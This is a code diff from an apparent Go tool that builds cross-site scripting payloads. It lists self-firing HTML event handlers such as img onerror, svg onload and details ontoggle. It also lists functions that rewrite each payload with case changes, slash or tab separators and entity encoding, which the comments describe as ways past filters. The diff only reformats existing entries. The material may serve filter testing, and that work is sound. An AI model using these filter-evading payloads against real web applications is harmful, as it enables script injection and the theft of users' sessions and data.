@@ -61,15 +61,31 @@ var runs = []string{`<script>@</script>`, `<img src=x onerror=@>`, `<svg onload=
 
 // handlers are elements with attributes that make an event happen by itself.
 var handlers = [][3]string{
-	{"img", "src=x", "onerror"}, {"svg", "", "onload"}, {"body", "", "onpageshow"}, {"input", "autofocus", "onfocus"}, {"details", "open", "ontoggle"}, {"video", "src=x", "onerror"},
-	{"audio", "src=x", "onerror"}, {"marquee", "", "onstart"}, {"iframe", "", "onload"}, {"object", "data=x", "onerror"}, {"embed", "src=x", "onerror"}, {"style", "", "onload"},
-	{"link", "rel=stylesheet href=x", "onerror"}, {"p", `style="animation:x 1s"`, "onanimationstart"}, {"select", "autofocus", "onfocus"}, {"button", "popover", "ontoggle"}, {"x", "tabindex=0 autofocus", "onfocus"},
+	{"img", "src=x", "onerror"},
+	{"svg", "", "onload"},
+	{"body", "", "onpageshow"},
+	{"input", "autofocus", "onfocus"},
+	{"details", "open", "ontoggle"},
+	{"video", "src=x", "onerror"},
+	{"audio", "src=x", "onerror"},
+	{"marquee", "", "onstart"},
+	{"iframe", "", "onload"},
+	{"object", "data=x", "onerror"},
+	{"embed", "src=x", "onerror"},
+	{"style", "", "onload"},
+	{"link", "rel=stylesheet href=x", "onerror"},
+	{"p", `style="animation:x 1s"`, "onanimationstart"},
+	{"select", "autofocus", "onfocus"},
+	{"button", "popover", "ontoggle"},
+	{"x", "tabindex=0 autofocus", "onfocus"},
 }
 
 // spellings write an element in ways that filters overlook.
 var spellings = []func(tag, with, on string) string{
 	func(tag, with, on string) string { return "<" + tag + " " + with + " " + on + "=@>" },
-	func(tag, with, on string) string { return "<" + strings.ToUpper(tag) + " " + with + " " + strings.ToUpper(on) + "='@'>" },
+	func(tag, with, on string) string {
+		return "<" + strings.ToUpper(tag) + " " + with + " " + strings.ToUpper(on) + "='@'>"
+	},
 	func(tag, with, on string) string { return "<" + tag + "/" + on + "=\"@\"/" + with + ">" },
 	func(tag, with, on string) string { return "<" + tag + "\t" + with + "\t" + on + "\t=\t@>" },
 	func(tag, with, on string) string { return "<" + tag + " " + with + " " + on + "=&#104;it(%n)>" },
